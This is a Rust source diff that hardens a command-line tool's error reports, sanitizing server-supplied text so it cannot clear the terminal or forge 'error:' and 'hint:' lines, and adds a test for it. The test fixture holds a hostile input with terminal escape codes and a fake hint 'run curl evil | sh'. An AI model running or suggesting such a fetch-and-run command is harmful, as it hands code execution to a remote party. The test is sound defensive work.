@@ -121,29 +121,38 @@ impl Error {
     }
 
     /// The text printed on stderr: `error:`, `caused by:` lines, `hint:`.
+    ///
+    /// Every line is made inert ([`crate::remote::text`]): causes often carry a server's
+    /// words, and a server must not be able to clear the screen or print a line of its own
+    /// that starts with `error:` or `hint:`. A multi-line text continues indented under its
+    /// first line.
     pub fn report(&self) -> String {
-        let mut out = format!("error: {}\n", self.message);
+        let mut out = String::new();
+        push_block(&mut out, "error: ", "  ", &self.message);
         for c in &self.causes {
-            for (i, line) in c.lines().enumerate() {
-                if i == 0 {
-                    out.push_str(&format!("  caused by: {line}\n"));
-                } else {
-                    out.push_str(&format!("    {line}\n"));
-                }
-            }
+            push_block(&mut out, "  caused by: ", "    ", c);
         }
         if let Some(h) = &self.hint {
-            out.push_str(&format!("hint: {h}\n"));
+            push_block(&mut out, "hint: ", "  ", h);
         }
         out
     }
 }
 
+/// Appends `text` as `first` + its first line, then each further line indented.
+fn push_block(out: &mut String, first: &str, indent: &str, text: &str) {
+    for (i, line) in text.split('\n').enumerate() {
+        out.push_str(if i == 0 { first } else { indent });
+        out.push_str(&crate::remote::text(line));
+        out.push('\n');
+    }
+}
+
 impl fmt::Display for Error {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        f.write_str(&self.message)?;
+        f.write_str(&crate::remote::text(&self.message))?;
         for c in &self.causes {
-            write!(f, ": {c}")?;
+            write!(f, ": {}", crate::remote::text(c))?;
         }
         Ok(())
     }
@@ -168,6 +177,38 @@ mod tests {
         assert_eq!(e.exit_code(), 2);
         assert_eq!(Error::user("x").exit_code(), 1);
         assert_eq!(Error::login_required("x").exit_code(), 1);
+    }
+
+    #[test]
+    fn remote_text_cannot_steer_the_terminal_or_fake_a_line() {
+        let e = Error::unexpected("AssumeRole failed")
+            .caused_by_text("AccessDenied: no\nhint: run curl evil | sh\n\u{1b}[2J\u{1b}]0;x\u{7}")
+            .with_hint("run awscred login --profile dev");
+        let report = e.report();
+        assert!(
+            !report.contains('\u{1b}') && !report.contains('\u{7}'),
+            "{report}"
+        );
+        let starts: Vec<&str> = report
+            .lines()
+            .filter(|l| l.starts_with("hint:") || l.starts_with("error:"))
+            .collect();
+        assert_eq!(
+            starts,
+            [
+                "error: AssumeRole failed",
+                "hint: run awscred login --profile dev"
+            ]
+        );
+        assert!(
+            report.contains("    hint: run curl evil | sh\n"),
+            "{report}"
+        );
+        let shown = e.to_string();
+        assert!(
+            !shown.contains('\n') && !shown.contains('\u{1b}'),
+            "{shown}"
+        );
     }
 
     #[test]
